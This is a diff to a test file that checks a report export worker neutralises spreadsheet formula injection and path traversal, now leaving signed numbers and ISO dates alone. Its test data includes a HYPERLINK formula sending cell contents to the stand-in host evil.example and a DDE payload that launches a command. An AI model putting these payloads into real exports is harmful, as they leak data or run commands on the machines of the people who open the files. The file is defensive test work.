@@ -2,8 +2,10 @@
  * Issue 8, scenarios 13 and 14, end to end through the worker, with storage on disk and on S3:
  * - formula injection (CWE-1236): text cells starting with = + - @ tab or CR are neutralised with a
  *   leading ' in CSV, by the ClickHouse-formatted path the worker uses and by the JS writer alike
- *   (byte-identical); numbers are never text, so a negative number stays a number (-5.5 is not a
- *   formula; only text is neutralised); XLSX holds them as typed string cells, never formulas;
+ *   (byte-identical), except text that is data: a signed plain number or ISO date (`-5`, `+1`,
+ *   `-2026-12-06`) is left alone; numbers are never text, so a negative number stays a number
+ *   (-5.5 is not a formula; only text is neutralised); XLSX holds them as typed string cells, never
+ *   formulas;
  * - path traversal: a report named like a path gives a safe storage key, file name and
  *   Content-Disposition, and nothing is written outside the export store (S3: security-files-s3.test.ts).
  */
@@ -21,14 +23,16 @@ import { createReport, downloadOk, exportAndFollow, expectSafeDisposition } from
 
 const TENANT = 'hostile';
 /** Text a spreadsheet would run, and text it would not (the control group). */
-const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '=1+1', '+1', '-1+1', '-5', '@SUM(A1:A9)', '\tcmd', '\r=cmd', '＝1+1', '＋1', '－1', '＠x', '=cmd|\' /C calc\'!A0'];
+const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '=1+1', '-1+1', '+A1', '-A1*2', '@SUM(A1:A9)', '\tcmd', '\r=cmd', '＝1+1', '＋1', '－1', '＠x', '=cmd|\' /C calc\'!A0'];
 const PLAIN = ['plain', "it's fine", 'a=b', ' =leading space', '1-2'];
+/** Text that starts with + or - and is data all the same (a signed plain number or ISO date): left alone. */
+const SIGNED_DATA = ['+1', '-5', '-12.5', '-1.5E+10', '-2026-12-06', '-2026-12-06T10:00:00Z'];
 const VALUES = [-5.5, -1, 0, 3.25, -1e-7];
 
 let app: TestApp;
 
 async function seedHostile(target: TestApp): Promise<void> {
-  const users = [...FORMULAS, ...PLAIN];
+  const users = [...FORMULAS, ...PLAIN, ...SIGNED_DATA];
   const db = target.runtime.analytics.database;
   await target.runtime.analytics.exec(
     `INSERT INTO ${db}.usage_events (tenant_id, timestamp, event_date, event_id, user_id, device_id, session_id, event_type, feature, platform, country, referrer, duration_ms, value, is_error)
@@ -68,9 +72,11 @@ describe('13. formula injection', () => {
     for (const [user, value] of rows.slice(1)) cells.set(user!, (cells.get(user!) ?? new Set()).add(value!));
     for (const text of FORMULAS) expect(cells.has(`'${text}`), JSON.stringify(text)).toBe(true);
     for (const text of PLAIN) expect(cells.has(text), JSON.stringify(text)).toBe(true);
-    expect([...cells.keys()].filter((k) => /^[=+\-@\t\r＝＋－＠]/.test(k))).toEqual([]);
+    for (const text of SIGNED_DATA) expect([cells.has(text), cells.has(`'${text}`)], JSON.stringify(text)).toEqual([true, false]);
+    expect([...cells.keys()].filter((k) => /^[=+\-@\t\r＝＋－＠]/.test(k)).sort()).toEqual([...SIGNED_DATA].sort());
     // Numbers stay numbers: a negative value is written as is, never prefixed.
-    expect([...cells.get("'-5")!].sort()).toEqual(['-1', '-1e-7', '-5.5', '0', '3.25']);
+    expect([...cells.get("'-1+1")!].sort()).toEqual(['-1', '-1e-7', '-5.5', '0', '3.25']);
+    expect([...cells.get('-5')!].sort()).toEqual(['-1', '-1e-7', '-5.5', '0', '3.25']);
     expect(file.toString('utf8')).not.toMatch(/'-5\.5|'-1,|'-1\r/);
 
     // The same rows through both CSV paths, outside the worker: identical bytes to the download.
@@ -119,7 +125,7 @@ describe('13. formula injection', () => {
     });
     expect(formulas).toBe(0);
     // XML readers normalise a bare CR in text to LF (exceljs writes it unescaped): the cell is still text.
-    for (const text of [...FORMULAS, ...PLAIN]) expect(texts.has(text.replace(/\r/g, '\n')), JSON.stringify(text)).toBe(true);
+    for (const text of [...FORMULAS, ...PLAIN, ...SIGNED_DATA]) expect(texts.has(text.replace(/\r/g, '\n')), JSON.stringify(text)).toBe(true);
   });
 });
 
